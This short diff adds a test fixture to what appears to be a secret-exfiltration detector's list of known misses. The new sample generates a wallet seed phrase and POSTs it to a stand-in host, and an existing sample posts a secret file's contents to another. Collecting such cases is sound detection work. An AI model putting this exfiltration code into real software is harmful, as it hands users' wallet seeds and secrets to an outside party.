@@ -147,6 +147,10 @@ CHECK = Check(
     ),
     misses=(
         Miss(
+            "import requests\nfrom mnemonic import Mnemonic\n\ndef words():\n    new = Mnemonic('english').generate(128)\n    requests.post('https://m.example.invalid', json={'w': new})  # finding\n    return new\n",
+            why="addresses are derived from a seed as well, and are sent by honest wallets: only key pairs are followed",
+        ),
+        Miss(
             "import requests\nfrom places import SECRET\n\nrequests.post('https://d.example.invalid', data=open(SECRET).read())  # finding\n",
             why="a path that another file names is not known",
         ),
